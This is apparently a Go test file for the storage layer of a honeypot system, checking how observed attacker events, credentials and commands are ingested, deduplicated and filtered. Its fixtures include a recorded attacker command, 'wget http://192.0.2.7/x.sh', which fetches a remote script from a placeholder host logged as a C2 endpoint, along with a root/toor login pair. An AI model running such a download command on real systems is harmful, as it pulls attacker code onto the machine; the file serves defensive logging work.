package sqlstore

import (
	"context"
	"fmt"
	"path/filepath"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/decnet/decnet/internal/services"
	"github.com/decnet/decnet/internal/store"
)

func openTestStore(t *testing.T) *Store {
	t.Helper()
	s, err := Open(context.Background(), filepath.Join(t.TempDir(), "decnet.db"), Options{})
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	t.Cleanup(func() { s.Close() })
	return s
}

func ev(id, ip, decky, service, kind string, at time.Time, fields map[string]string) services.Event {
	return services.Event{ID: id, Time: at, Decky: decky, Service: service, Kind: kind, SrcIP: ip, SrcPort: 40000, Fields: fields}
}

func TestIngestBatchAggregatesAttacker(t *testing.T) {
	s := openTestStore(t)
	ctx := context.Background()
	t0 := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)

	batch := []Observation{
		{Event: ev("e1", "127.0.0.5", "decky-01", "ssh", services.KindConnect, t0.Add(time.Minute), nil),
			Fingerprints: map[string]string{store.FPHASSH: "abc", store.FPSSHClientVersion: "SSH-2.0-OpenSSH_9.2p1"}},
		{Event: ev("e2", "127.0.0.5", "decky-01", "ssh", services.KindAuthAttempt, t0, nil),
			Credential: &CredentialAttempt{Principal: "root", Secret: []byte("toor"), SecretPrintable: "toor", Outcome: "success"}},
		{Event: ev("e3", "127.0.0.5", "decky-02", "http", services.KindCommand, t0.Add(2*time.Minute), nil),
			Command: "wget http://192.0.2.7/x.sh", C2Endpoints: []string{"http://192.0.2.7/x.sh", "192.0.2.7"}},
		{Event: ev("e4", "127.0.0.5", "decky-01", "ssh", services.KindAuthAttempt, t0.Add(3*time.Minute), nil),
			Credential: &CredentialAttempt{Principal: "root", Secret: []byte("toor"), SecretPrintable: "toor"}},
	}
	res, err := s.IngestBatch(ctx, batch)
	if err != nil {
		t.Fatalf("IngestBatch: %v", err)
	}
	if res.Inserted != 4 || res.Duplicates != 0 {
		t.Errorf("IngestBatch = %d inserted, %d duplicates; want 4, 0", res.Inserted, res.Duplicates)
	}

	a, err := s.GetAttacker(ctx, "127.0.0.5")
	if err != nil {
		t.Fatalf("GetAttacker: %v", err)
	}
	if !a.FirstSeen.Equal(t0) || !a.LastSeen.Equal(t0.Add(3*time.Minute)) {
		t.Errorf("window = %v..%v, want %v..%v", a.FirstSeen, a.LastSeen, t0, t0.Add(3*time.Minute))
	}
	if diff := cmp.Diff([]string{"decky-01", "decky-02"}, a.Deckies); diff != "" {
		t.Errorf("deckies (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"wget http://192.0.2.7/x.sh"}, a.Commands); diff != "" {
		t.Errorf("commands (-want +got):\n%s", diff)
	}
	if a.Fingerprints[store.FPHASSH] != "abc" {
		t.Errorf("hassh = %q, want abc", a.Fingerprints[store.FPHASSH])
	}
	if a.EventCount != 4 {
		t.Errorf("event count = %d, want 4", a.EventCount)
	}

	creds, total, err := s.ListCredentials(ctx, store.CredentialFilter{AttackerIP: "127.0.0.5"}, store.Page{})
	if err != nil {
		t.Fatalf("ListCredentials: %v", err)
	}
	if total != 1 || len(creds) != 1 {
		t.Fatalf("credentials = %d rows (total %d), want 1", len(creds), total)
	}
	if creds[0].AttemptCount != 2 || creds[0].Outcome != "success" || creds[0].AttackerUUID != a.UUID {
		t.Errorf("credential = %+v, want 2 attempts, success, attacker %s", creds[0], a.UUID)
	}
}

func TestIngestBatchSkipsRedelivered(t *testing.T) {
	s := openTestStore(t)
	ctx := context.Background()
	t0 := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	batch := []Observation{{Event: ev("same", "127.0.0.9", "decky-01", "ssh", services.KindConnect, t0, nil)}}

	for i := 0; i < 3; i++ {
		if _, err := s.IngestBatch(ctx, batch); err != nil {
			t.Fatalf("IngestBatch #%d: %v", i, err)
		}
	}
	a, err := s.GetAttacker(ctx, "127.0.0.9")
	if err != nil {
		t.Fatalf("GetAttacker: %v", err)
	}
	if a.EventCount != 1 {
		t.Errorf("event count = %d after three deliveries of one event, want 1", a.EventCount)
	}
	n, err := s.CountLogs(ctx)
	if err != nil || n != 1 {
		t.Errorf("CountLogs = %d, %v; want 1", n, err)
	}
}

func TestListAttackersFilters(t *testing.T) {
	s := openTestStore(t)
	ctx := context.Background()
	t0 := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	_, err := s.IngestBatch(ctx, []Observation{
		{Event: ev("a", "127.0.0.2", "decky-01", "ssh", services.KindConnect, t0, nil)},
		{Event: ev("b", "127.0.0.3", "decky-02", "http", services.KindRequest, t0.Add(time.Hour), nil)},
		{Event: ev("c", "127.0.0.4", "decky-02", "ssh", services.KindConnect, t0.Add(2*time.Hour), nil)},
	})
	if err != nil {
		t.Fatalf("IngestBatch: %v", err)
	}

	tests := []struct {
		name   string
		filter store.AttackerFilter
		want   []string
	}{
		{"all newest first", store.AttackerFilter{}, []string{"127.0.0.4", "127.0.0.3", "127.0.0.2"}},
		{"by decky", store.AttackerFilter{Decky: "decky-02"}, []string{"127.0.0.4", "127.0.0.3"}},
		{"by service", store.AttackerFilter{Service: "ssh"}, []string{"127.0.0.4", "127.0.0.2"}},
		{"by decky and service", store.AttackerFilter{Decky: "decky-02", Service: "ssh"}, []string{"127.0.0.4"}},
		{"by ip", store.AttackerFilter{IP: "127.0.0.3"}, []string{"127.0.0.3"}},
		{"since", store.AttackerFilter{Since: t0.Add(90 * time.Minute)}, []string{"127.0.0.4"}},
		{"until", store.AttackerFilter{Until: t0.Add(30 * time.Minute)}, []string{"127.0.0.2"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, total, err := s.ListAttackers(ctx, tt.filter, store.Page{})
			if err != nil {
				t.Fatalf("ListAttackers: %v", err)
			}
			var ips []string
			for _, a := range got {
				ips = append(ips, a.IP)
			}
			if diff := cmp.Diff(tt.want, ips); diff != "" {
				t.Errorf("ips (-want +got):\n%s", diff)
			}
			if total != len(tt.want) {
				t.Errorf("total = %d, want %d", total, len(tt.want))
			}
		})
	}
}

func TestIngestBatchSkipsCopyInsideBatch(t *testing.T) {
	s := openTestStore(t)
	ctx := context.Background()
	t0 := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	var batch []Observation
	for i := 0; i < 150; i++ { // more than two INSERT chunks
		batch = append(batch, Observation{Event: ev(fmt.Sprint("id-", i%100), "127.0.0.8", "decky-01", "ssh", services.KindConnect, t0, nil)})
	}
	res, err := s.IngestBatch(ctx, batch)
	if err != nil {
		t.Fatalf("IngestBatch: %v", err)
	}
	if res.Inserted != 100 || res.Duplicates != 50 {
		t.Errorf("IngestBatch = %d inserted, %d duplicates; want 100, 50", res.Inserted, res.Duplicates)
	}
	a, err := s.GetAttacker(ctx, "127.0.0.8")
	if err != nil || a.EventCount != 100 {
		t.Errorf("attacker event count = %d (%v), want 100", a.EventCount, err)
	}
}

func TestIngestRereadsAttackerChangedElsewhere(t *testing.T) {
	s := openTestStore(t)
	ctx := context.Background()
	t0 := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
	cmd := func(id, c string) Observation {
		return Observation{Event: ev(id, "127.0.0.6", "decky-01", "ssh", services.KindCommand, t0, nil), Command: c}
	}
	if _, err := s.IngestBatch(ctx, []Observation{cmd("a", "id")}); err != nil {
		t.Fatal(err)
	}
	// Another writer rewrites the row; the cached copy must not win.
	if _, err := s.DB().ExecContext(ctx, `UPDATE attackers SET commands = '["whoami"]', updated_at = ? WHERE ip = '127.0.0.6'`,
		FormatTime(t0.Add(time.Hour))); err != nil {
		t.Fatal(err)
	}
	if _, err := s.IngestBatch(ctx, []Observation{cmd("b", "uname -a")}); err != nil {
		t.Fatal(err)
	}
	a, err := s.GetAttacker(ctx, "127.0.0.6")
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"whoami", "uname -a"}, a.Commands); diff != "" {
		t.Errorf("commands (-want +got):\n%s", diff)
	}

	// Unchanged rows come from the cache and still accumulate.
	if _, err := s.IngestBatch(ctx, []Observation{cmd("c", "ls")}); err != nil {
		t.Fatal(err)
	}
	a, _ = s.GetAttacker(ctx, "127.0.0.6")
	if diff := cmp.Diff([]string{"whoami", "uname -a", "ls"}, a.Commands); diff != "" {
		t.Errorf("commands after a cached batch (-want +got):\n%s", diff)
	}
}
